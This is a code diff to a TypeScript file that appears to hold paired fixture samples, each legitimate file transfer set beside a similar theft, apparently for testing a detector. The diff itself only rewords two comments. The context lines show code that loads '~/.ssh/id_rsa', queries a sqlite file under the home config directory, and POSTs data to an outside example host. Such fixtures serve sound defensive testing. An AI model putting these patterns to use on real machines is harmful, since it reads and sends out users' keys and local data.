@@ -23,7 +23,7 @@ async function main() {
   const answer = await videos.search.list({ part: 'snippet' });
 `;
 
-/** A tool that puts files on the user's own machine, and tells a service of its maker that it did. */
+/** A tool that copies files to the user's own machine and reports that to a service of its vendor. */
 const deploy = (login: string, sent: string): string => `import os, requests, paramiko
 def main(host, notes):
     key = paramiko.RSAKey.from_private_key_file(os.path.expanduser('~/.ssh/id_rsa'))
@@ -76,7 +76,7 @@ export const read = (site) => execFileSync('sqlite3', [join(homedir(), '.config/
 export const tell = (body) => fetch('https://api.runner.example.net/in', { method: 'POST', body });
 `;
 
-/** Keys and notes on their way to whom they belong, each beside the theft that it must not be mistaken for. */
+/** Keys and notes that are sent to their own service, each with a similar theft. */
 const TWINS: readonly (readonly [string, Files, Files])[] = [
   [
     "the skill's own key as a login at a bare address, and that of a provider",
